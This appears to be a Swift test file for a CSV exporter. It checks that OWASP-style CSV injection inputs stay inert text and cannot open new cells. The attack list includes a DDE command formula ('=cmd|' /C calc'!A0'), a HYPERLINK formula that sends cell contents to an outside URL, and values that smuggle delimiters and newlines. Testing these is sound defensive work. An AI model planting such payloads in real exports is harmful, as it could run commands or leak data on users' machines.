import Foundation
import Planning
import Testing

@testable import Reports

@Suite("CSV")
struct CSVTests {
  /// The examples of OWASP's page "CSV Injection", its list of dangerous starts, and texts that try
  /// to open a cell of their own.
  static let attacks = [
    "=cmd|' /C calc'!A0", "=1+1", "=HYPERLINK(\"https://e.org?x=\"&A1,\"click\")", "+1+1", "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\0=1",
    "\u{FF1D}1+1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}SUM(1)", " =1+1", "\u{A0}=1+1",
    "a\",=1+1", "a;=1+1", "a,=1+1", "a\"\r\n=1+1,\"", "\"=1+1", "'=1+1", "x\"\u{301},=1+1",
  ]

  /// What a spreadsheet would evaluate.
  private func isFormula(_ cell: String) -> Bool {
    let first = cell.unicodeScalars.first { $0 != " " && $0 != "\u{A0}" }
    let starts = "=+-@\t\r\n\0\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}".unicodeScalars
    return first.map { starts.contains($0) } ?? false
  }

  @Test("OWASP's examples survive in every text cell as text, and open no cell", arguments: attacks)
  func injection(attack: String) throws {
    var writer = CSVWriter(header: ["a", attack, "c"])
    writer.append([.string("before"), .string(attack), .array([.string(attack), .null])])
    writer.append([.object([.init("k", .string(attack))]), .number("-1.5"), .null])
    let rows = records(writer.text)
    #expect(rows.map(\.count) == [3, 3, 3])
    let cells = [rows[0][1], rows[1][1], rows[1][2], rows[2][0]]
    for cell in cells {
      #expect(!isFormula(cell))
      #expect(cell.hasSuffix(attack) || cell.contains(attack))
    }
    #expect(rows[1][1] == attack || rows[1][1] == "'" + attack)
    #expect(rows[2][1] == "-1.5" && rows[2][2].isEmpty)
  }

  @Test("a plan's texts are guarded wherever they came from")
  func hostilePlan() throws {
    var plan = try Samples.given.get()
    let attack = "=cmd|' /C calc'!A0\",=1+1"
    for index in plan.assessments.indices {
      plan.assessments[index].offer = attack
      plan.assessments[index].region = attack
      plan.assessments[index].warnings = [attack]
      plan.assessments[index].outcome?.model.name = attack
    }
    let best = try #require(plan.ranked.first)
    let focus = try #require(FocusForecast(best, in: plan))
    for text in [PlanCSV(plan).text, focus.csv] {
      let rows = records(text)
      #expect(Set(rows.map(\.count)).count == 1)
      for cell in rows.joined() where isFormula(cell) { #expect(Double(cell) != nil, "\(cell)") }
    }
  }

  @Test("every field is a number, a truth or a text; unknown is empty; lines end in CR LF")
  func shape() throws {
    for plan in try Samples.plans() {
      let text = PlanCSV(plan).text
      let rows = records(text)
      #expect(rows.count == plan.assessments.count + 1)
      #expect(Set(rows.map(\.count)) == [rows[0].count])
      #expect(Set(rows[0]).count == rows[0].count)
      #expect(!rows.joined().contains { ["nan", "inf", "null", "N/A", "-"].contains($0) })
    }
  }
}
